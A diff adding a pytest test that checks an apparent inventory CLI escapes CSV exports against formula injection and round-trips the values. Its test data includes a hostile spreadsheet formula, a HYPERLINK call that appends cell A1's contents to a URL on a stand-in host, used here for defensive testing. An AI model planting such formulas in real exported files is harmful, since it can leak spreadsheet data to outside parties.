@@ -125,3 +125,24 @@ def test_a_record_that_conflicts_with_what_was_sent_refuses_the_file(cli, loaded
     assert "record 0 (shipment S-1001)" in result.stderr
     numbers = [s["number"] for s in cli.json("show", "shipments")]
     assert "S-1005" not in numbers
+
+
+def test_an_exported_cell_never_runs_as_a_formula_and_imports_back_unchanged(
+    cli, channel, tmp_path
+):
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    pairs = [(hostile, "LF-1"), ("-5", "+SKU"), ("@SUM(A1)", "'quoted"), ("'=x", "PLAIN")]
+    for system, remote in pairs:
+        cli("map", "sku", channel, "--", system, remote)
+    exported = tmp_path / "skus.csv"
+    cli("map", "export", channel, "sku", str(exported))
+    with exported.open() as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
+    assert f"'{hostile}" in cells and "''quoted" in cells and "''=x" in cells
+    cli("channel", "add", "west", "--plugin", "leanafy", "--disabled",
+        "--set", "api_url=https://wms.example", "--set", "api_key=env:TEST_LEANAFY_KEY",
+        "--set", "api_secret=env:TEST_LEANAFY_SECRET")  # fmt: skip
+    cli("map", "import", "west", "sku", str(exported))
+    imported = {(r["system_sku"], r["channel_sku"]) for r in cli.json("map", "list", "west")["sku"]}
+    assert imported == set(pairs)
